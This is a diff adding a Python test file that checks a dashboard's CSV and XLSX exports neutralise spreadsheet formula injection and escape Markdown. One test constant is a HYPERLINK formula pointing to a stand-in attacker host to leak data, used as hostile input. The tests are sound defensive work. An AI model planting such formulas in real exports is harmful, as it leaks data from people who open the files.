@@ -1,0 +1,104 @@
+"""Text from data is text: never a spreadsheet formula in a download, never Markdown on a page."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from types import SimpleNamespace
+from xml.etree import ElementTree
+
+import polars as pl
+from hypothesis import given
+from hypothesis import strategies as st
+
+from werkpad.config import PACKAGE_DIR
+from werkpad.dashboard import safe
+
+HOSTILE = '=HYPERLINK("http://attacker.example/?leak=1","click")'
+NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+
+
+def xlsx_cells(data: bytes, sheet: int = 1) -> dict[str, tuple[str, object]]:
+    """Each cell of a sheet as (kind, value): 's' string, 'n' number, 'f' formula."""
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        strings = [
+            "".join(t.text or "" for t in si.iter(f"{{{NS['x']}}}t"))
+            for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
+        ]
+        root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml"))
+    cells = {}
+    for c in root.iterfind(".//x:c", NS):
+        value = c.findtext("x:v", default=None, namespaces=NS)
+        if c.find("x:f", NS) is not None:
+            cells[c.get("r")] = ("f", c.findtext("x:f", namespaces=NS))
+        elif c.get("t") == "s":
+            cells[c.get("r")] = ("s", strings[int(value)])
+        elif value is not None:
+            cells[c.get("r")] = ("n", float(value))
+    return cells
+
+
+def _frame() -> pl.DataFrame:
+    return pl.DataFrame(
+        {
+            "file_name": [HOSTILE, "+1", "@SUM(A1)", "\tx", "plain", "-x", None],
+            "change": [-1, 2, -3, 0, 5, -6, 7],
+        }
+    )
+
+
+def test_csv_text_cells_are_never_formulas_and_numbers_stay_numbers():
+    body = safe.csv_bytes(_frame(), "=caption")
+    frame = pl.read_csv(io.BytesIO(body), comment_prefix="#")
+    assert frame["file_name"].to_list()[:6] == ["'" + HOSTILE, "'+1", "'@SUM(A1)", "'\tx"] + [
+        "plain",
+        "'-x",
+    ]
+    assert frame["change"].to_list() == [-1, 2, -3, 0, 5, -6, 7]
+    assert body.startswith(b"# =caption\n")
+
+
+def test_xlsx_text_cells_are_strings_and_numbers_stay_numbers():
+    cells = xlsx_cells(safe.xlsx_bytes(_frame(), "=caption"))
+    assert cells["A1"] == ("s", "=caption")
+    assert not [c for c in cells.values() if c[0] == "f"]  # no formula anywhere
+    assert ("s", HOSTILE) in cells.values()
+    assert ("n", -1) in cells.values() and ("n", -6) in cells.values()
+
+
+@given(st.text(max_size=20))
+def test_every_text_cell_is_safe(text):
+    cell = safe.spreadsheet_safe(pl.DataFrame({"t": [text]}))["t"][0]
+    assert not cell.startswith(safe.FORMULA_START)
+    assert cell in (text, "'" + text)
+
+
+@given(st.text(max_size=30))
+def test_markdown_literal_has_no_unescaped_markdown(text):
+    shown = safe.markdown_literal(text)
+    assert "\n" not in shown and "\r" not in shown
+    unescaped = shown.replace("\\\\", "")
+    for mark in "[]()<>*_`!:$~|#":
+        assert all(unescaped[i - 1] == "\\" for i, c in enumerate(unescaped) if c == mark)
+
+
+def test_dashboard_downloads_are_safe():
+    from werkpad.dashboard import downloads
+
+    ctx = SimpleNamespace(caption="Provincie: Limburg")
+    csv = pl.read_csv(io.BytesIO(downloads.csv_bytes(_frame(), ctx)), comment_prefix="#")
+    assert csv["file_name"][0] == "'" + HOSTILE and csv["change"][0] == -1
+    cells = xlsx_cells(downloads.xlsx_bytes(_frame(), ctx))
+    assert ("s", HOSTILE) in cells.values() and ("n", -1) in cells.values()
+
+
+def test_every_table_file_is_written_through_the_one_helper():
+    # the sample generator writes partner-style extracts on purpose; nothing else may
+    writers = [
+        path
+        for path in (PACKAGE_DIR).rglob("*.py")
+        if path.name != "safe.py" and "sample_data" not in path.parts
+        for text in [path.read_text()]
+        if ".write_csv(" in text or ".write_excel(" in text or "Workbook(" in text
+    ]
+    assert writers == []
